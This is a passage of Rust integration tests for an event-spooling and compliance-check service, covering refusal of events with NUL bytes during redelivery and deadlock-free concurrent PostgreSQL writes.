    // Redelivered in the order of their keys: the poisoned one first.
    let mut poisoned = OutgoingEvent::new("pipeline.create", "user-9", "org-nul");
    poisoned.idempotency_key = "0-poisoned".to_owned();
    poisoned.target_id = Some("pipe\u{0}line".to_owned());
    let mut good = OutgoingEvent::new("pipeline.create", "user-9", "org-nul");
    good.idempotency_key = "1-good".to_owned();
    good.target_id = Some("pipeline-1".to_owned());
    for event in [&poisoned, &good] {
        assert_eq!(
            client.deliver_or_spool(event.clone()).await,
            Delivery::Retry
        );
    }
    assert_eq!(client.spooled(), 2);
    let listener = tokio::net::TcpListener::bind(("127.0.0.1", port))
        .await
        .unwrap();
    let router = app.router.clone();
    let server = tokio::spawn(async move { axum::serve(listener, router).await });
    assert_eq!(
        client.redeliver().await,
        1,
        "the good event is not held back"
    );
    assert_eq!(client.spooled(), 0);
    let dropped = client
        .counters()
        .dropped
        .load(std::sync::atomic::Ordering::Relaxed);
    assert_eq!(dropped, 1, "the refused one is counted dropped");
    let rows = app.store.chain_batch("org-nul", 0, 100).await.unwrap();
    assert_eq!(rows.len(), 1);
    server.abort();
    let _ = std::fs::remove_dir_all(spool);
}

on_both_backends!(
    made_up_methods_do_not_grow_the_metrics,
    nul_bytes_are_refused_at_the_edge_on_every_route,
    archives_are_judged_by_what_they_hold,
    a_team_admin_cannot_buy_for_the_root,
    out_of_api_calls_is_not_out_of_remedy,
    a_member_changes_only_their_own,
    preferences_clear_or_refuse_never_ignore,
    schedules_that_can_never_run_are_refused,
    work_per_organization_is_bounded,
    racing_acceptances_lose_with_409,
    a_refused_event_does_not_hold_back_the_spool,
);

/// Live checks recorded in groups that share entities lock the entities' snapshot
/// rows in one order. Two groups over the same forty entities, written at once in
/// opposite orders, twenty times: in arrival order each would hold a row the other
/// waits for, and PostgreSQL would roll one back as a deadlock (after a second) and
/// its checks would answer 503; here every group is written.
#[tokio::test]
async fn groups_of_checks_over_the_same_entities_never_deadlock() {
    let Some(app) = TestApp::postgres().await else {
        return;
    };
    let org = app.org("deadlock-owner", "deadlocks").await;
    let group = |round: usize, reversed: bool| -> Vec<adapters::storage::LiveCheck> {
        let mut checks: Vec<_> = (0..40)
            .map(|n| adapters::storage::LiveCheck {
                id: uuid::Uuid::new_v4().to_string(),
                org_id: org.clone(),
                target: "pipeline",
                entity_id: Some(format!("entity-{n:02}")),
                result: "pass",
                violations: "[]".to_owned(),
                // New attributes each time, so that every row is updated (locked).
                snapshot: Some(format!("{{\"round\": {round}, \"reversed\": {reversed}}}")),
                notification: None,
                at: Utc::now(),
            })
            .collect();
        if reversed {
            checks.reverse();
        }
        checks
    };
    for round in 0..20 {
        let (forward, backward) = tokio::join!(
            app.store.record_live_checks(group(round, false)),
            app.store.record_live_checks(group(round, true)),
        );
        forward.unwrap_or_else(|e| panic!("round {round}: {e}"));
        backward.unwrap_or_else(|e| panic!("round {round}: {e}"));
    }
    assert_eq!(
        app.number(&format!(
            "SELECT COUNT(*) FROM compliance_checks WHERE org_id = '{org}'"
        ))
        .await,
        20 * 2 * 40
    );
    app.finish().await;
}
